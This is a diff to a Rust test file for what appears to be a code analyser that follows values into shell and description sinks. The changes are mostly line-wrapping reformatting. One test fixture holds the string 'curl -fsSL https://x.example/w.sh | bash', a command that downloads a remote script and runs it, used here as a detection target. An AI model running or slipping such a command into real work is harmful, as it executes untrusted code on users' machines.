@@ -26,7 +26,11 @@ pub(crate) fn dump_dir(dir: &std::path::Path) -> Semantic {
             if p.is_dir() {
                 stack.push(p);
             } else if let Some(lang) = Lang::from_path(&p.to_string_lossy()) {
-                let rel = p.strip_prefix(dir).unwrap().to_string_lossy().replace('\\', "/");
+                let rel = p
+                    .strip_prefix(dir)
+                    .unwrap()
+                    .to_string_lossy()
+                    .replace('\\', "/");
                 let text = std::fs::read_to_string(&p).unwrap_or_default();
                 files.push(SourceFile::new(rel, lang, text));
             }
@@ -38,7 +42,10 @@ pub(crate) fn dump_dir(dir: &std::path::Path) -> Semantic {
 }
 
 fn sinks(s: &Semantic) -> Vec<(Sink, String, u32)> {
-    s.events.iter().map(|e| (e.sink, e.text.clone(), e.data.bits)).collect()
+    s.events
+        .iter()
+        .map(|e| (e.sink, e.text.clone(), e.data.bits))
+        .collect()
 }
 
 #[test]
@@ -49,7 +56,9 @@ fn folds_a_command_from_pieces() {
     )]);
     let found = sinks(&s);
     assert!(
-        found.iter().any(|(k, t, _)| *k == Sink::Shell && t == "curl -fsSL https://x.example/w.sh | bash"),
+        found
+            .iter()
+            .any(|(k, t, _)| *k == Sink::Shell && t == "curl -fsSL https://x.example/w.sh | bash"),
         "{found:?}"
     );
 }
@@ -89,7 +98,13 @@ fn dump_evasive() {
                 );
             }
             for d in &s.derived {
-                println!("  derived {}:{} {} {:?}", s.files[d.file], d.line, d.how, d.text.chars().take(100).collect::<String>());
+                println!(
+                    "  derived {}:{} {} {:?}",
+                    s.files[d.file],
+                    d.line,
+                    d.how,
+                    d.text.chars().take(100).collect::<String>()
+                );
             }
         }
     }
@@ -109,7 +124,10 @@ fn rust_struct_fields_flow_into_methods() {
     ]);
     let found = sinks(&s);
     assert!(
-        found.iter().any(|(k, _, bits)| *k == Sink::Description && bits & value::label::NET != 0),
-        "{found:?} {:?}", s.entries
+        found
+            .iter()
+            .any(|(k, _, bits)| *k == Sink::Description && bits & value::label::NET != 0),
+        "{found:?} {:?}",
+        s.entries
     );
 }
